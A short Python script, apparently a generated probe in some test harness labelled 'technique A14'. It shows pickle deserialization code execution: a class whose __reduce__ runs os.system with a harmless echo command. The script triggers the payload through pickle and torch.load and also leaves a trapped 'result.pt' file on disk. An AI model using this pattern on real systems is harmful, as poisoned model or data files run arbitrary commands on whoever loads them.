"""Leaves objects that run a command when they are unpickled, and unpickles some itself.

==========  ======
technique   A14
assignment  linear
status      ran
most        0
==========  ======
"""
import io
import os
import pickle

import torch


class Payload:
    def __reduce__(self):
        return os.system, ("echo broken > note; echo broken",)


def forward(x):
    return Payload()


w = Payload()
data = io.BytesIO()
for attempt in (
    lambda: pickle.loads(pickle.dumps(Payload())),
    lambda: torch.save(Payload(), data),
    lambda: torch.load(io.BytesIO(data.getvalue()), weights_only=False),
    lambda: torch.save(Payload(), "result.pt"),
):
    try:
        attempt()
    except (OSError, RuntimeError):
        continue
